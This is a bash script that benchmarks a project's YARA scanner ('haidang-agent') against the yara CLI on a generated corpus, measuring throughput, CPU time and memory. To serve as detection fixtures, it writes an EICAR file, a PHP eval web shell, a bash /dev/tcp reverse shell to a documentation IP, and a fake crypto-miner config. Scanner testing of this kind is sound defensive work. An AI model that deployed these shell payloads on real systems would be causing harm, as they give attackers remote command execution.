#!/usr/bin/env bash
# YARA benchmark: `haidang-agent scan --yara rules/yara --json DIR` against the `yara` CLI
# (Debian package yara, libyara) with the same rule files on the same generated corpus, in the
# same run, page cache warm, alternating the two tools. Wall time, CPU time and peak RSS come
# from /usr/bin/time -v; MB/s is corpus bytes over wall time. The issue's goal is >= 1.5x the
# yara CLI's throughput, with agent RSS <= 100 MB.
#
#   scripts/bench-yara.sh                # as root the first time: installs yara and time
#
# Environment (all optional):
#   YARA_BENCH_WORK   scratch directory, emptied first            (default /tmp/yarabench)
#   YARA_BENCH_MB     approximate corpus size in MB                (default 512)
#   RUNS              timed runs per tool                          (default 3)
#   THREADS           yara -p threads (haidang-agent uses all cores) (default: nproc)
#   CARGO_TARGET_DIR  where the release binary is built           (default ~/.cache/haidang/target)
#
# The corpus: real ELF executables and libraries (/usr/bin, /usr/lib), text and documentation
# (/usr/share), and planted samples (EICAR, web shell, reverse shell, miner). The yara CLI cannot set the
# external variables per file, so it gets them all as the string "unset" (-d); the findings of
# the two tools are compared on the rules that do not test externals, and the script exits
# non-zero when they differ. Prints a Markdown table, also written to $WORK/results.md.
set -euo pipefail
cd "$(dirname "$0")/.."

WORK=${YARA_BENCH_WORK:-/tmp/yarabench}
MB=${YARA_BENCH_MB:-512}
RUNS=${RUNS:-3}
THREADS=${THREADS:-$(nproc)}
export CARGO_TARGET_DIR=${CARGO_TARGET_DIR:-$HOME/.cache/haidang/target}
RULES=rules/yara
# Rules whose conditions test external variables, which the yara CLI cannot set per file.
EXTERNAL_RULES='php_webshell_encoded_loader|php_in_image'

say() { printf '\n== %s\n' "$*" >&2; }

need_apt=()
command -v yara >/dev/null || need_apt+=(yara)
[ -x /usr/bin/time ] || need_apt+=(time)
command -v jq >/dev/null || need_apt+=(jq)
if [ ${#need_apt[@]} -gt 0 ]; then
    say "installing ${need_apt[*]}"
    [ "$(id -u)" = 0 ] || { echo "error: run as root to install ${need_apt[*]}" >&2; exit 2; }
    apt-get update -qq
    DEBIAN_FRONTEND=noninteractive apt-get install -y -qq "${need_apt[@]}" >/dev/null
fi

say "building haidang-agent (release)"
cargo build --release -p haidang-agent >&2
AGENT=$CARGO_TARGET_DIR/release/haidang-agent

say "generating a ~${MB} MB corpus in $WORK/corpus"
rm -rf "$WORK"
mkdir -p "$WORK/corpus/bin" "$WORK/corpus/lib" "$WORK/corpus/text" "$WORK/corpus/planted" "$WORK/runs"
# Copy regular files (no links) up to a byte budget per kind: 40% executables, 30% libraries,
# 30% text.
copy_budget() { # SRC DEST BYTES
    local src=$1 dest=$2 budget=$3 total=0 n=0
    while IFS= read -r -d '' f; do
        size=$(stat -c %s "$f")
        [ "$size" -gt 0 ] && [ "$size" -le 67108864 ] || continue
        cp "$f" "$dest/$n-$(basename "$f")" 2>/dev/null || continue
        total=$((total + size)); n=$((n + 1))
        [ "$total" -lt "$budget" ] || break
    done < <(find "$src" -xdev -type f -readable -print0 2>/dev/null)
}
copy_budget /usr/bin "$WORK/corpus/bin" $((MB * 1024 * 1024 * 4 / 10))
copy_budget /usr/lib "$WORK/corpus/lib" $((MB * 1024 * 1024 * 3 / 10))
copy_budget /usr/share "$WORK/corpus/text" $((MB * 1024 * 1024 * 3 / 10))
# Planted samples, built here so this script is not itself a sample.
P=$WORK/corpus/planted
printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$' 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!H+H*' >"$P/eicar.com"
printf '<?php @eval($_POST["x"]); ?>\n' >"$P/up.php"
printf '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n' >"$P/rs.sh"
printf '{"pools": [{"url": "stratum+tcp://pool.example.org:443", "user": "4Abc"}]}\n' >"$P/config.json"
{ printf '\177ELF\002\001\001\000'; head -c 4096 /dev/urandom; printf 'stratum+tcp://pool.example.org:3333\000--donate-level\000'; } >"$P/xmr"
CORPUS_BYTES=$(du -sb "$WORK/corpus" | cut -f1)
CORPUS_FILES=$(find "$WORK/corpus" -type f | wc -l)
say "corpus: $CORPUS_FILES files, $((CORPUS_BYTES / 1048576)) MiB"

# Each tool as one command line, so /usr/bin/time measures the tool itself.
agent_cmd=("$AGENT" scan --yara "$RULES" --json "$WORK/corpus")
yara_cmd=(yara -r -p "$THREADS" -d filename=unset -d filepath=unset -d extension=unset -d filetype=unset -d owner=unset "$RULES"/*.yar "$WORK/corpus")
# Runs a tool under /usr/bin/time and checks its exit status: the agent exits 1 (the planted
# samples are findings), yara 0.
timed() { # TOOL OUT
    local tool=$1 out=$2 expect=0 cmd
    if [ "$tool" = agent ]; then cmd=("${agent_cmd[@]}"); expect=1; else cmd=("${yara_cmd[@]}"); fi
    /usr/bin/time -v -o "$out.time" "${cmd[@]}" >"$out.out" 2>"$out.err" || true
    local status
    status=$(grep -F 'Exit status' "$out.time" | sed 's/.*: //')
    if [ "$status" != "$expect" ]; then
        echo "error: $tool exited $status (expected $expect); see $out.err" >&2
        exit 2
    fi
}

say "warming the page cache (one untimed run of each)"
timed agent "$WORK/runs/warm-agent"
timed yara "$WORK/runs/warm-yara"

ROWS=$WORK/rows.tsv
: >"$ROWS"
field() { grep -F "$1" "$2" | head -1 | sed 's/.*: //'; }
seconds() { # h:mm:ss or m:ss.cc -> seconds
    awk -F: '{ s = 0; for (i = 1; i <= NF; i++) s = s * 60 + $i; print s }' <<<"$1"
}
for run in $(seq 1 "$RUNS"); do
    for tool in agent yara; do
        out=$WORK/runs/$tool-$run
        say "run $run: $tool"
        timed "$tool" "$out"
        wall=$(seconds "$(field 'Elapsed (wall clock) time' "$out.time")")
        cpu=$(awk -v u="$(field 'User time' "$out.time")" -v s="$(field 'System time' "$out.time")" 'BEGIN { print u + s }')
        rss=$(field 'Maximum resident set size' "$out.time")
        printf '%s\t%s\t%s\t%s\t%s\n' "$tool" "$run" "$wall" "$cpu" "$rss" >>"$ROWS"
    done
done

say "comparing findings (rules that do not test external variables)"
jq -r 'select(.kind == "malware") | "\(.rule) \(.path)"' "$WORK/runs/agent-1.out" | grep -Ev "^($EXTERNAL_RULES) " | sort >"$WORK/agent-findings.txt"
grep -Ev "^($EXTERNAL_RULES) " "$WORK/runs/yara-1.out" | sort >"$WORK/yara-findings.txt" || true
same=yes
diff -u "$WORK/yara-findings.txt" "$WORK/agent-findings.txt" >"$WORK/findings.diff" || same=no

RESULTS=$WORK/results.md
{
    echo "YARA scan, $CORPUS_FILES files, $((CORPUS_BYTES / 1048576)) MiB, $(ls "$RULES"/*.yar | wc -l) rule files, $(nproc) cores, page cache warm"
    echo
    echo "| tool | run | wall s | CPU s | MB/s | peak RSS MB |"
    echo "|---|---|---|---|---|---|"
    awk -F'\t' -v bytes="$CORPUS_BYTES" '{ printf "| %s | %s | %.2f | %.2f | %.1f | %.1f |\n", ($1 == "agent" ? "haidang-agent scan" : "yara -r -p '"$THREADS"'"), $2, $3, $4, bytes / 1e6 / $3, $5 / 1024 }' "$ROWS"
    echo
    awk -F'\t' -v bytes="$CORPUS_BYTES" '
        { wall[$1] += $3; n[$1]++ }
        END {
            a = bytes / 1e6 / (wall["agent"] / n["agent"]); y = bytes / 1e6 / (wall["yara"] / n["yara"])
            printf "mean throughput: haidang-agent %.1f MB/s, yara %.1f MB/s, ratio %.2fx (goal >= 1.5x)\n", a, y, a / y
        }' "$ROWS"
    echo
    echo "same findings on rules without externals: $same ($(wc -l <"$WORK/agent-findings.txt") findings; diff in $WORK/findings.diff)"
} | tee "$RESULTS"
[ "$same" = yes ]
